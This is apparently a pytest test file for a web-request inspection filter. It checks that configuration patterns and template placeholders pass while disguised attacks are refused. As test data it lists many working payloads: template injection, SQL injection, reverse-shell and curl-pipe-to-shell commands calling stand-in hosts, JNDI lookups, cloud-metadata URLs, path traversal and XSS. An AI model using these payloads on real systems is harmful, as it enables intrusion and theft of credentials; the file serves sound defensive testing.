"""Patterns, pointers, types and placeholders pass; what only looks like one is weighed."""

from __future__ import annotations

import json
from urllib.parse import quote

import pytest

from guard_wsgi.detection import Inspection
from guard_wsgi.detection.relaxations.notations import excused
from guard_wsgi.detection.relaxations.placeholders import without_placeholders
from tests.detection.requests import environ

FORM = "application/x-www-form-urlencoded"


def in_json(inspection: Inspection, name: str, text: str) -> bool:
    """Whether a document with a text under a path, as in ``steps[].run``, is refused."""
    document: object = text
    for key in reversed(name.replace("[]", ".[]").split(".")):
        document = [document] if key == "[]" else {key: document}
    body = json.dumps(document).encode()
    return bool(inspection.body(body, content_type="application/json"))


def in_form(inspection: Inspection, name: str, text: str) -> bool:
    return bool(inspection.body(f"{name}={quote(text, safe='')}".encode(), content_type=FORM))


WRITTEN = (
    r"^(0|[1-9]\d*)\.(0|[1-9]\d*)\.(0|[1-9]\d*)(?:-[0-9A-Za-z.-]+)?$",
    "^(llvm|gcc)$",
    r"(UA-\d{4,9}-\d)|(G-\w+)",
    r"^\d{1,2}\.\d{1,2}(\.\d{1,2})?$",
    r"((25[0-5]|2[0-4][0-9]|[01]?[0-9][0-9]?)\.){3}(25[0-5]|2[0-4][0-9])",
    r"^META-INF/[^/]+\.RSA$",
    r"/\.gradle(\.kts)?$/",
    "**/.git/**",
    "!**/node_modules/**",
    "lib/**/*.js",
    "**/{,.}mise{,.*}.toml",
    "https://*.example.com/*",
    "*://*.chromium.org/*",
    "#/definitions/credentials",
    "java.util.ArrayList",
    "org.apache.hadoop.mapred.SequenceFileInputFormat",
    "redis:6379",
    "mongo:7.0.5",
    "kafka.shop-1.svc.cluster.local:9092",
    "/srv/shop/data:/var/lib/data:ro",
    "https://api.github.com/users/renovate%5Bbot%5D",
    "https://api.github.com/users/dependabot[bot]/gists{/gist_id}",
    "v${version}",
    "uploads/${filename}",
    "${BUILD_NUMBER}",
    "${longdate}|${level:uppercase=true}|${message:raw=true}",
    ">=16 || 14 >=14.17",
    "((node_hwmon_temp_alarm == 1) or (node_load1 > 3))",
)


@pytest.mark.parametrize("text", WRITTEN)
def test_a_notation_of_a_configuration_passes(inspection: Inspection, text: str) -> None:
    for name in ("rules.pattern", "include[]", "settings.value"):
        assert not in_json(inspection, name, text)
    assert not in_form(inspection, "setting", text)


PLACEHOLDERS = (
    "{{ $labels.instance }}: {{ $value | humanize }} of {{ $labels.namespace }}",
    '={{ $json["Id"] }}',
    "={{ $('Set input data').first().json.inputDatabase }}",
    "={{ $json.type == 'video' && Boolean($json.video) }}",
    '={{ $json["What\'s your email address?"] }}',
    '{{- if .Values.ingress.enabled }}{{ include "chart.name" . }}{{- end }}',
    "{{ .Values.image.tag | default .Chart.AppVersion | quote }}",
    "{{ states('sensor.temperature') }} °C",
    "{{ 'now' | date: '%Y' }}",
    "{{ price * quantity }}",
    "{{#if user}}Hello {{user.name}}{{else}}Hello{{/if}}",
    "${{ fromJSON(needs.setup.outputs.matrix) }}",
    "${{ github.event_name == 'push' && github.ref == 'refs/heads/main' }}",
    "{% extends 'emails/base.html' %}{% load i18n %}{% block content %}"
    "{% trans 'Hello' %} {{ user|full_name }}"
    "{% if user.is_staff and count > 3 %}!{% endif %}{% endblock content %}",
    "{% for item in items %}<li>{{ item.name|escape }}</li>{% endfor %}",
    "amqp://guest:{rabbit-password.value}@{rabbit.bindings.tcp.host}:{rabbit.bindings.tcp.port}",
)


@pytest.mark.parametrize("text", PLACEHOLDERS)
def test_a_placeholder_that_shows_data_passes(inspection: Inspection, text: str) -> None:
    assert not in_json(inspection, "nodes[].parameters.value", text)
    assert not in_form(inspection, "template", text)


ATTACKS = (
    # An expression of a step beside one of Python, and a modulo of SQL before a statement.
    "{{ lipsum[request.headers.pragma].os.popen(request.args.c).read() or datetime.x }}",
    "{{ config.items() or datetime.now }}",
    "{{ config.items() or $json }}",
    "{{ '%1 union select password from users where 1 or ' | upper }}",
    "{{ t('%1 or 1 or ') }}",
    "${{ '%1 or 1 or ' }}",
    # Globs that end or begin a command or a statement, and one that names a file.
    "\ncat /etc/passwd\n/**",
    "\nrm -rf /**",
    ";ls /**",
    "; id **",
    ";reboot;**",
    "a;cat /etc/passwd /**",
    "x;bash -i;**",
    "1;shutdown;**",
    "1;drop table users;**",
    "**/.env",
    "/**/.ssh/id_rsa",
    "**/wp-config.php",
    "(0)or(substr((select(password)from(users)),1,1)=char(112))--\\d",
    "(0)or(exists(select(1)from(users)))--\\d",
    "(1)or(1)=(1)--\\d",
    "(0)or(1)#\\d",
    "updatexml(1,concat(0x7e,(select(user()))),1)#\\d",
    "(1)^(ascii(mid((select(password)from(users)),1,1))=(97))#\\d",
    "1-sleep(5)#\\d",
    "(\\d|{cat,/etc/passwd}|sh)",
    "(\\.|{curl,evil.example}|sh)",
    "(\\.|whoami|sh)",
    "#/../../etc/passwd",
    "#/%2E%2E/%2E%2E/etc/passwd",
    "${env}",
    "${class}",
    "${param}",
    "${applicationscope}",
    "${sessionscope}",
    "${systemproperties.x}",
    "${pagecontext.x}",
    "${environment:variable=AWS_SECRET_ACCESS_KEY}",
    "${file-contents:fileName=web.config}",
    "${script:a=js}",
    "${dns:a=evil.example}",
    # Regular expressions that are no such.
    r".\/\.\.\/\.\boot.ini",
    r"C:\Windows\win.ini",
    "^{{7*7}}",
    "*)(uid=*))(|(uid=*",
    "x|cat /etc/passwd",
    "(a);cat /etc/passwd;(b)?",
    # A comment of SQL in the place of a folder.
    "1/**/union/**/select/**/password/**/from/**/users",
    "DECLARE/**/@x",
    "https://shop.example/ca[t] /etc/passwd",
    "https://shop.example/a%3Bcat%20/etc/passwd",
    "/bin/ca[bot] /etc/passwd",
    # Addresses with a colon in the middle.
    "//https://shop.example.com@evil.com/%2e%2e%2f",
    "file:/etc/passwd",
    "http://${AWS_LAMBDA_RUNTIME_API}/2018-06-01/runtime/invocation/next",
    "${jndi:ldap://evil.com/a}",
    "1 || 14 >= 14",
    # Placeholders that calculate, call, or hide quotes of SQL, tags and commands.
    "{{7*7}}",
    "{{config}}",
    "{{''.__class__.__mro__}}",
    "{{ $json.constructor.constructor('alert(1)')() }}",
    "{{ $json['constr'+'uctor']['constr'+'uctor']('alert(1)')() }}",
    "{{ ['constr'.concat('uctor')].map(x => $json[x]).map(f => f('alert(1)')()) }}",
    "{{ $json && system('cat /etc/passwd') }}",
    "{{ $('<img src=x onerror=alert(1)>') }}",
    '{{ $json["\' or 1=1 -- "] }}',
    "{{ $json + '=' }}' or '1'='1",
    "{{ $json || cat /etc/passwd }}",
    '{{ .System "cat /etc/passwd" }}',
    "{{ '/etc/passwd'|file_excerpt(1,30) }}",
    "{{ ['id']|filter('system') }}",
    "${{ 7*7 }}",
    "{% extends '/etc/passwd' %} x",
    "{% load log %}{% get_admin_log 9 as x %}",
    "{{ users|map('system') }}",
)


@pytest.mark.parametrize("text", ATTACKS)
def test_what_only_looks_like_a_notation_is_refused(inspection: Inspection, text: str) -> None:
    assert in_json(inspection, "settings.value", text)
    assert in_form(inspection, "setting", text)


@pytest.mark.parametrize(
    "text",
    [
        "{{ [name].map(setTimeout) + $json }}",
        "{{ $json + ' = ' }}",
        "{{ $json + 'or 1 or' }}",
        "{{ x | default(' = ') }}",
        "{{ $json || reboot }}",
        "{{ $json | reboot }}",
        "{{ $json\nreboot\n}}",
        "{{ x|attr('__class__') }}",
        "${{ github.ref == '*' }}",
        '{{ "".getClass() }}',
    ],
)
def test_a_placeholder_is_taken_out_only_if_nothing_in_it_acts(text: str) -> None:
    assert without_placeholders(text) == text


@pytest.mark.parametrize(
    ("name", "text"),
    [
        ("id", "id == 'a' || role == false"),
        ("id", "id not like 'a' or 'b'"),
        ("token", "aB1cD2$(sh)eF3gH4iJ5kL6"),
        ("token", "A1B2C3dEf;halt;A1b2C3#"),
        ("driver", "org.apache.tomcat.dbcp.dbcp2.BasicDataSource"),
        ("template", "{% for u in users %}{{ u.password }}{% endfor %}"),
        ("template", '{{ .DB.Raw "DROP TABLE users" }}'),
        ("file", "GET /../../../root/.ssh/id_rsa HTTP/1.1 200"),
        ("ip", "127.0.0.1 && rm -rf ~/.cache"),
        ("after_id", "1 or true"),
    ],
)
def test_what_looks_harmless_beside_what_it_does_is_refused(
    inspection: Inspection, name: str, text: str
) -> None:
    assert in_json(inspection, name, text)
    assert in_form(inspection, name, text)


def test_a_notation_excuses_only_what_it_cannot_be() -> None:
    assert "sqli" not in excused("^1|1$", False)
    assert "cmd_injection" not in excused(r"^\d+|reboot$", False)
    assert "cmd_injection" in excused(r"^(\d+|none)$", False)
    assert "open_redirect" not in excused(r"//evil.com/\w+", False)
    assert "open_redirect" not in excused(r"/\www.evil.com/\w+/", False)
    assert "sensitive_file" not in excused(r"/etc/passwd\b", False)
    assert "cmd_injection" in excused("/usr/bin/terraform", True)
    assert "cmd_injection" not in excused("/usr/bin/id", False)


GIVEN = (
    ("steps[].command", "python3 -m http.server"),
    ("hooks.pre[].command", "echo 'started' >> ~/.tool/activity.log"),
    ("script[]", "python setup.py install"),
    ("executors.macos.shell", "/bin/zsh"),
    ("env.OTEL_EXPORTER_OTLP_LOGS_CLIENT_KEY", "/etc/otel/logs-client.key"),
    ("tasks[].command", "bin/rspec ${relativeFile}:${lineNumber}"),
    ("$schema", "../../schemas/json/package.json"),
    ("bindings[].commandText", "SELECT * FROM Products"),
    ("QueryString", "SELECT * FROM table1"),
    ("create.files[]", "docker/docker-compose.yml"),
    ("spec.containers[].volumeMounts[].mountPath", "/etc/nginx/ssl"),
)


@pytest.mark.parametrize(("name", "text"), GIVEN)
def test_what_a_document_gives_to_a_program_passes(
    inspection: Inspection, name: str, text: str
) -> None:
    assert not in_json(inspection, name, text)
    # A document in a field of a form, as an editor of configurations sends it.
    document: object = text
    for key in reversed(name.replace("[]", ".[]").split(".")):
        document = [document] if key == "[]" else {key: document}
    if name.startswith(("steps", "hooks", "script", "env", "$schema")):
        assert not in_form(inspection, "config", json.dumps(document))


@pytest.mark.parametrize(
    ("name", "text"),
    [
        ("steps[].command", "; cat /etc/passwd"),
        ("steps[].command", "curl http://e.vil/a.sh | sh"),
        ("task.cmd", "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"),
        ("command", "python3 -m http.server; cat /etc/passwd"),
        ("env.HOME_PAGE", "http://169.254.169.254/latest/meta-data/iam"),
        ("report.sql", "1' OR '1'='1"),
        ("report.sql", "1 UNION SELECT password FROM users"),
        ("create.files[]", "../../../../etc/passwd"),
    ],
)
def test_an_attack_in_such_a_field_is_refused(inspection: Inspection, name: str, text: str) -> None:
    assert in_json(inspection, name, text)


NAMES = (
    "org.springframework.web.client.RestTemplate",
    "org.apache.commons.lang3",
    "javax.servlet.http.HttpServletRequest",
    "org.apache.hadoop.mapreduce.v2.app.rm.RMContainerAllocator",
    "System.Data.SqlClient",
    "com.zaxxer.hikari.HikariDataSource",
)


@pytest.mark.parametrize("text", NAMES)
def test_the_name_of_a_class_passes_where_no_object_is_made(
    inspection: Inspection, text: str
) -> None:
    for name in ("logger", "exception.type_name", "components[].group"):
        assert not in_json(inspection, name, text)
    assert not in_form(inspection, "q", text)
    xml = f"<project><groupId>{text}</groupId></project>".encode()
    assert not inspection.body(xml, content_type="application/xml")


@pytest.mark.parametrize(
    ("name", "text"),
    [
        ("@type", "org.apache.commons.configuration.JNDIConfiguration"),
        ("user.@class", "org.apache.hadoop.mapred.TextInputFormat"),
        ("value", "java.lang.Runtime"),
        ("value", "javax.script.ScriptEngineManager"),
        ("value", "com.sun.rowset.JdbcRowSetImpl"),
        ("value", "org.springframework.context.support.ClassPathXmlApplicationContext"),
    ],
)
def test_the_name_of_a_class_that_acts_is_refused(
    inspection: Inspection, name: str, text: str
) -> None:
    assert in_json(inspection, name, text)


CARRIED = (
    *("content.text", "params.text", "metaData.x", "extra_vars.x", "outputs.a.value", "engines.a"),
    *("nodes[].parameters.a", "breadcrumbs[].message", "stdout", "stackTrace", "rawSql", "prompt"),
    *("messages[].content", "messages[].content[].text", "chat_history[].message"),
)


@pytest.mark.parametrize("name", CARRIED)
def test_an_attack_in_a_field_that_another_app_may_have_is_refused(
    inspection: Inspection, name: str
) -> None:
    for text in (
        "x' UNION SELECT username,password FROM users-- -",
        "<img src=x onerror=alert(document.cookie)>",
        "; cat /etc/passwd | nc 10.0.0.1 4444",
        "../../../../etc/passwd",
        "http://169.254.169.254/latest/meta-data/iam/security-credentials/",
        # Lines that look like a program's make no program of it.
        "x' UNION SELECT username,password FROM users-- -\n# a\n# b\n# c",
        "<img src=x onerror=alert(document.cookie)>\n# a\n# b\n# c",
        "; cat /etc/passwd | nc 10.0.0.1 4444\n# a\n# b\n# c",
    ):
        assert in_json(inspection, name, text), text


@pytest.mark.parametrize(
    "text",
    [
        "http://169.254.169.254/latest/meta-data/iam/security-credentials/",
        "../../../../etc/passwd",
        "file:///etc/passwd",
    ],
)
def test_a_schema_is_a_file_of_schemas_and_nothing_else(inspection: Inspection, text: str) -> None:
    assert in_json(inspection, "$schema", text)
    assert in_json(inspection, "message.$schema", text)
    assert in_form(inspection, "config", json.dumps({"$schema": text}))


@pytest.mark.parametrize(
    "text", ["x' or 1=1 -- ", "<img src=x onerror=alert(1)>", "../../../../etc/passwd"]
)
def test_the_key_of_an_edit_is_a_file_and_nothing_else(inspection: Inspection, text: str) -> None:
    for edited in ({text: []}, {"file:///home/ann/a.py": [], text: []}):
        body = json.dumps({"params": {"edit": {"changes": edited}}}).encode()
        assert inspection.body(body, content_type="application/json")


def test_a_program_passes_where_formats_carry_one_and_in_no_other_field(
    inspection: Inspection,
) -> None:
    text = "cd /srv/app && npm test 2>&1 | tail -20"
    assert not in_json(inspection, "stdout", text)
    assert in_json(inspection, "host", text)


@pytest.mark.timeout(60)
@pytest.mark.parametrize("piece", ["[a]", "\\$|", "{2}", "(?<a>", "[^a]+", "{2,}"])
def test_an_expression_with_a_fault_is_read_once(inspection: Inspection, piece: str) -> None:
    """If each piece could be read in two ways, sixty would take forever."""
    for attack in ("' or 1=1--", ";id", "<script>alert(1)</script>"):
        excused(piece * 60 + attack, False)
        inspection.head(environ(query="q=" + quote(piece * 60 + attack, safe="")))
